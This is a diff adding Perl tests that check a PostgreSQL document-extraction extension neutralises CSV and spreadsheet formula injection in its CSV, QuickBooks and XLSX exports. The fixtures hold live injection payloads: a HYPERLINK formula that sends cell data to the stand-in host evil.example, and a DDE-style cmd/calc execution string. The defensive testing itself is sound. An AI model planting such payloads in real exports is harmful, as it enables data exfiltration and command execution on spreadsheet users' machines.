@@ -131,6 +131,38 @@ like(($node->psql('postgres', "SET ROLE other; SELECT docextract.export($arr)"))
 is(sq("SELECT count(*) || ' ' || min(line_number) || ' ' || max((item->>'amount')::numeric) FROM docextract.result_rows('$ids[1]')"),
 	'3 1 909.5', 'result_rows: one row per line item');
 
+# -- formulas from a document never run in a spreadsheet (CSV injection) ---------------------
+# The model reads what the document says; an attacker writes the document.
+my $latest = sq("SELECT id FROM docextract.templates WHERE group_id = (SELECT group_id FROM docextract.templates WHERE id = '$tid')
+	ORDER BY version DESC LIMIT 1");
+server_script($srv, { answer => {
+	general => { invoice_number => '=HYPERLINK("http://evil.example/?"&A1,"Click")', invoice_date => '2026-03-14',
+		currency => 'EUR', paid => JSON::PP::false, subtotal => -12.5, total_amount => '-7' },
+	table => [ { description => "\@SUM(1+1)*cmd|' /C calc'!A0", quantity => 1, amount => -5 },
+		{ description => '+1+2', quantity => 1, amount => 1 }, { description => '-2+3', quantity => 1, amount => 1 } ] } });
+my $evil_doc = sq("SET ROLE app; SELECT docextract.add_document('evil.pdf', (SELECT pdf FROM public.fixture))");
+my $evil = sq("SET ROLE app; SELECT docextract.extract_document('$evil_doc', '$latest')");
+wait_for_status($node, $evil, 'completed');
+# a correction (approve() or an UPDATE) may start a value with a tab or a CR
+sq(qq{UPDATE docextract.results SET data = jsonb_set(data, '{table,2,description}', to_jsonb(E'\\t=1+1'::text))
+	WHERE extraction_id = '$evil'});
+$csv = sq("SET ROLE app; SELECT convert_from(docextract.export(ARRAY['$evil']::uuid[], 'csv'), 'UTF8')");
+@lines = split /\r\n/, $csv;
+like($lines[1], qr/^$evil,[0-9a-f-]{36},"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",2026-03-14,EUR,false,-12\.5,-7,'\@SUM\(1\+1\)\*cmd\|' \/C calc'!A0,1,-5$/,
+	'csv: a formula from the model gets a leading quote; signed numbers stay numbers');
+like($lines[2], qr/,'\+1\+2,1,1$/, "csv: '+' first: neutralised");
+like($lines[3], qr/,'\t=1\+1,1,1$/, "csv: a tab first: neutralised");
+$qbo = sq("SET ROLE app; SELECT convert_from(docextract.export(ARRAY['$evil']::uuid[], 'quickbooks_csv'), 'UTF8')");
+like((split /\r\n/, $qbo)[1], qr/^"'=HYPERLINK\(.*\)",03\/14\/2026,-7$/, 'quickbooks_csv: neutralised too');
+$xlsx = sq("SET ROLE app; SELECT encode(docextract.export(ARRAY['$evil']::uuid[], 'xlsx'), 'hex')");
+open($fh, '>:raw', $xlsx_file) or die;
+print $fh pack('H*', $xlsx);
+close $fh;
+$sheet = decode_json(`/usr/bin/python3 $DxTest::root/test/read_xlsx.py $xlsx_file`);
+is($sheet->[1]{C}, '=HYPERLINK("http://evil.example/?"&A1,"Click")', 'xlsx: the value is kept, as a text cell');
+unlike(`/usr/bin/python3 -c "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode())" $xlsx_file`,
+	qr/<f>|<f /, 'xlsx: no cell is a formula');
+
 # -- deletion and zero retention ---------------------------------------------------------
 my $doc = sq("SET ROLE app; SELECT docextract.add_document('del.pdf', (SELECT pdf FROM public.fixture))");
 my $child = sq(qq{INSERT INTO docextract.documents (filename, content_type, size_bytes, sha256, page_count, content, parent_id, page_start, page_end, owner)
